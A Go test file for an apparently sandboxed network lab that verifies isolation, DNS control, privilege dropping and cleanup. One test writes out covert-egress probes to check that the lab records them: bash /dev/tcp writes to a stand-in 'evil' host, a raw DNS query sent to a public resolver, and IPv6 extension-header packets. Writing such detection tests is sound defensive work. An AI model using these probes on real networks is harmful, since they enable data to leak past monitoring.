package netlab_test

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/bailey-dev/bailey/internal/testkit/netlab"
)

func output(t *testing.T, cmd *exec.Cmd) string {
	t.Helper()
	b, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("%v: %v\n%s", cmd.Args, err, b)
	}
	return strings.TrimSpace(string(b))
}

func TestLab_CommandSeesTheLabAsItsHost(t *testing.T) {
	t.Parallel()
	lab := netlab.New(t)
	tester := lab.Tester()
	for name, command := range map[string]func(string, ...string) *exec.Cmd{
		"root":   lab.Command,
		"tester": func(n string, a ...string) *exec.Cmd { return lab.CommandAs(tester, n, a...) },
	} {
		t.Run(name, func(t *testing.T) {
			if got := output(t, command("getent", "hosts", "allow.test")); !strings.HasPrefix(got, "11.0.0.10") {
				t.Errorf("allow.test resolves to %q", got)
			}
			if got := output(t, command("cat", "/etc/resolv.conf")); !strings.Contains(got, "11.0.0.53") {
				t.Errorf("resolv.conf is %q", got)
			}
			if got := output(t, command("ls", "/sys/class/net", "/proc/net/if_inet6")); got == "" {
				t.Error("no network files")
			}
			got := output(t, command("cat", "/proc/net/dev"))
			if !strings.Contains(got, "lab0:") || strings.Contains(got, "eth0:") {
				t.Errorf("interfaces are not the lab's: %s", got)
			}
		})
	}
	if b, err := os.ReadFile("/etc/resolv.conf"); err != nil || strings.Contains(string(b), "11.0.0.53") {
		t.Errorf("the host's resolv.conf was touched: %q %v", b, err)
	}
}

func TestLab_CommandAsHasNoPower(t *testing.T) {
	t.Parallel()
	lab := netlab.New(t)
	u := lab.Tester()
	got := output(t, lab.CommandAs(u, "sh", "-c", "id -u; id -un; grep -E '^Cap(Eff|Prm|Inh|Amb)' /proc/self/status; cd; pwd; touch x; ls /root 2>&1 || true"))
	for _, want := range []string{
		fmt.Sprint(u.UID), u.Name, "CapEff:\t0000000000000000", "CapPrm:\t0000000000000000",
		"CapInh:\t0000000000000000", "CapAmb:\t0000000000000000", u.Home, "Permission denied",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("want %q in:\n%s", want, got)
		}
	}
}

func TestLab_EnterKeepsTheCommand(t *testing.T) {
	t.Parallel()
	lab := netlab.New(t)
	u := lab.Tester()
	cmd := exec.CommandContext(t.Context(), "sh", "-c", `id -u; pwd; echo "$MARK $0 $1"; cat /etc/resolv.conf; grep CapEff /proc/self/status`, "zero", "a b")
	cmd.Dir = u.Home
	cmd.Env = []string{"MARK=here", "PATH=/usr/bin:/bin"}
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: u.UID, Gid: u.GID}}
	lab.Enter(cmd)
	got := output(t, cmd)
	for _, want := range []string{fmt.Sprintf("%d\n%s\nhere zero a b\n", u.UID, u.Home), "11.0.0.53", "0000000000000000"} {
		if !strings.Contains(got, want) {
			t.Errorf("want %q in:\n%s", want, got)
		}
	}
}

func TestLab_CommandIsTheProcess(t *testing.T) {
	t.Parallel()
	lab := netlab.New(t)
	cmd := lab.CommandAs(lab.Tester(), "sh", "-c", "echo $$; read x")
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = in.Close() }()
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	line, err := bufio.NewReader(out).ReadString('\n')
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSpace(line); got != fmt.Sprint(cmd.Process.Pid) {
		t.Errorf("the program is process %s, the command is %d", got, cmd.Process.Pid)
	}
	if err := cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := cmd.Wait(); err == nil || cmd.ProcessState.ExitCode() != -1 {
		t.Errorf("the signal did not end it: %v", err)
	}
}

func TestLab_Servers(t *testing.T) {
	t.Parallel()
	lab := netlab.New(t)
	for _, tc := range []struct {
		at        string
		url, want string
	}{
		{"11.0.0.10:80", "http://allow.test/", "hello from allow.test at 11.0.0.10"},
		{"11.0.0.10:443", "https://allow.test/", "hello from allow.test at 11.0.0.10"},
		{"11.0.0.66:443", "https://evil.test/", "hello from evil.test at 11.0.0.66"},
		{"[2600:11::10]:443", "https://six.test/", "hello from six.test at 2600:11::10"},
		{"11.0.0.10:443", "https://11.0.0.10/", "hello from 11.0.0.10 at 11.0.0.10"},
		{"169.254.169.254:80", "http://169.254.169.254/latest/meta-data/", netlab.MetadataCanary},
		{"127.0.0.1:8080", "http://127.0.0.1:8080/", netlab.LoopbackCanary},
		{"[::1]:8080", "http://[::1]:8080/", netlab.LoopbackCanary},
		{"11.0.0.1:8080", "http://11.0.0.1:8080/", netlab.LoopbackCanary},
		{"10.11.12.13:8080", "http://private.test:8080/", netlab.PrivateCanary},
	} {
		if got := get(t, lab, tc.at, tc.url); got != tc.want {
			t.Errorf("%s: got %q, want %q", tc.url, got, tc.want)
		}
	}
	lab.Handle("model.test", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.WriteString(w, r.Proto+" "+r.Method+" "+r.URL.Path)
	}))
	if got := get(t, lab, "11.0.0.10:443", "https://model.test/v1/x"); got != "HTTP/1.1 GET /v1/x" {
		t.Errorf("handler: %q", got)
	}
	last := lab.Requests()[len(lab.Requests())-1]
	if last.TLS != "model.test" || last.Host != "model.test" || last.To != netip.AddrPortFrom(netlab.Allowed, 443) {
		t.Errorf("recorded %+v", last)
	}
	echoes(t, lab)
}

// get asks as a client of the host that trusts the lab.
func get(t *testing.T, lab *netlab.Lab, at, url string) string {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := lab.Client(netip.MustParseAddrPort(at)).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = resp.Body.Close() }()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSpace(string(b))
}

func TestLab_ServersSpeakHTTP2(t *testing.T) {
	t.Parallel()
	lab := netlab.New(t)
	raw, err := lab.Dial(t.Context(), "tcp", "11.0.0.10:443")
	if err != nil {
		t.Fatal(err)
	}
	c := tls.Client(raw, &tls.Config{RootCAs: lab.CA().Pool(), ServerName: "allow.test", NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS12})
	defer func() { _ = c.Close() }()
	if err := c.HandshakeContext(t.Context()); err != nil || c.ConnectionState().NegotiatedProtocol != "h2" {
		t.Errorf("%v %q", err, c.ConnectionState().NegotiatedProtocol)
	}
}

func echoes(t *testing.T, lab *netlab.Lab) {
	t.Helper()
	c, err := lab.Dial(t.Context(), "tcp", "11.0.0.66:7")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = c.Close() }()
	if _, err := c.Write([]byte("ping\x00\xff")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 6)
	if _, err := io.ReadFull(c, buf); err != nil || string(buf) != "ping\x00\xff" {
		t.Errorf("echo: %q %v", buf, err)
	}
}

func TestLab_SeesEveryConnectionAndQuestion(t *testing.T) {
	t.Parallel()
	lab := netlab.New(t)
	if got := lab.Connections(); len(got) != 0 {
		t.Fatalf("a fresh lab has seen %v", got)
	}
	if got := lab.Questions(); len(got) != 0 {
		t.Fatalf("a fresh lab was asked %v", got)
	}
	script := `
exec 2>/dev/null
getent ahosts leak-1.evil.test
for to in tcp/11.0.0.66/443 tcp/8.8.4.4/853 tcp/2600:11::66/22 tcp/2a00:1450::8/443 udp/11.0.0.66/443; do
	timeout 0.3 bash -c "echo quic > /dev/$to"
done
python3 - <<'END'
import socket
for option in 54, 59: # IPV6_HOPOPTS, IPV6_DSTOPTS (ipv6(7)): a header before UDP's, with padding alone
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(41, option, bytes([0, 0, 1, 4, 0, 0, 0, 0]))
    s.sendto(b"hidden", ("2600:11::66", 4200 + option))
END
printf '\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04test\x00\x00\x10\x00\x01' > /dev/udp/8.8.8.8/53
true`
	output(t, lab.Command("bash", "-c", script))
	want := map[string]bool{
		"tcp 11.0.0.66:443": false, "tcp 8.8.4.4:853": false, "tcp [2600:11::66]:22": false,
		"tcp [2a00:1450::8]:443": false, "udp 11.0.0.66:443": false, "udp 8.8.8.8:53": false,
		"udp 11.0.0.53:53": false, "udp [2600:11::66]:4254": false, "udp [2600:11::66]:4259": false,
	}
	for _, c := range lab.Connections() {
		if _, ok := want[c.Proto+" "+c.To.String()]; ok {
			want[c.Proto+" "+c.To.String()] = true
		}
	}
	for k, seen := range want {
		if !seen {
			t.Errorf("not seen: %s (seen %v)", k, lab.Connections())
		}
	}
	if n := len(lab.ConnectionsTo(netlab.Evil)); n < 2 {
		t.Errorf("connections to the evil address: %d", n)
	}
	if !lab.Asked("leak-1.evil.test") {
		t.Error("the question to the lab's resolver was not seen")
	}
	if !lab.Asked("leak.test") {
		t.Errorf("the question to a foreign resolver was not seen: %v", lab.Questions())
	}
	if lab.Asked("nobody-asked.test") {
		t.Error("a question was seen that nobody asked")
	}
}

func TestLab_NamesCanBeRebound(t *testing.T) {
	t.Parallel()
	lab := netlab.New(t)
	get := func() string { return output(t, lab.Command("getent", "ahostsv4", "turn.test")) }
	lab.Name("turn.test", netlab.Allowed)
	if got := get(); !strings.HasPrefix(got, "11.0.0.10 ") {
		t.Error(got)
	}
	lab.Name("turn.test", netlab.Loopback4)
	if got := get(); !strings.HasPrefix(got, "127.0.0.1 ") {
		t.Error(got)
	}
	lab.Alias("turn.test", "evil.test")
	if got := get(); !strings.HasPrefix(got, "11.0.0.66 ") {
		t.Error(got)
	}
	lab.Name("gone.test")
	if err := lab.Command("getent", "hosts", "gone.test").Run(); err == nil {
		t.Error("gone.test exists")
	}
}

func TestLab_DNSOverTCPIsSeen(t *testing.T) {
	t.Parallel()
	lab := netlab.New(t)
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return lab.Dial(ctx, "tcp", netip.AddrPortFrom(netlab.Resolver, 53).String())
	}}
	addrs, err := r.LookupHost(t.Context(), "evil.test")
	if err != nil || len(addrs) != 1 || addrs[0] != "11.0.0.66" {
		t.Fatal(addrs, err)
	}
	if !lab.Asked("evil.test.") {
		t.Error("question over TCP was not seen")
	}
}

func TestLab_LabsAreStrangers(t *testing.T) {
	t.Parallel()
	a, b := netlab.New(t), netlab.New(t)
	output(t, a.Command("bash", "-c", "echo > /dev/tcp/evil.test/80"))
	if len(a.ConnectionsTo(netlab.Evil)) == 0 || len(b.Connections()) != 0 {
		t.Errorf("a saw %v, b saw %v", a.Connections(), b.Connections())
	}
}

func TestLab_LeavesNothingBehind(t *testing.T) {
	var dir, stray string
	t.Run("inner", func(t *testing.T) {
		lab := netlab.New(t)
		dir = lab.Dir()
		stray = output(t, lab.CommandAs(lab.Tester(), "sh", "-c", "setsid sleep 1000 >/dev/null 2>&1 & echo $!"))
		if _, err := os.Stat("/proc/" + stray + "/ns"); err != nil {
			t.Fatalf("the stray process is not there to begin with: %v", err)
		}
	})
	pid, err := strconv.Atoi(stray)
	if err != nil {
		t.Fatal(err)
	}
	for deadline := time.Now().Add(5 * time.Second); syscall.Kill(pid, 0) == nil; {
		if b, _ := os.ReadFile("/proc/" + stray + "/stat"); strings.Contains(string(b), ") Z ") {
			break // dead, and its new parent has not looked yet
		}
		if time.Now().After(deadline) {
			t.Fatal("a process is left")
		}
		runtime.Gosched()
	}
	if _, err := os.Stat(dir); !os.IsNotExist(err) {
		t.Errorf("folder is left: %v", err)
	}
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil || dir == "" || strings.Contains(string(b), dir) {
		t.Errorf("a mount is left: %v", err)
	}
}
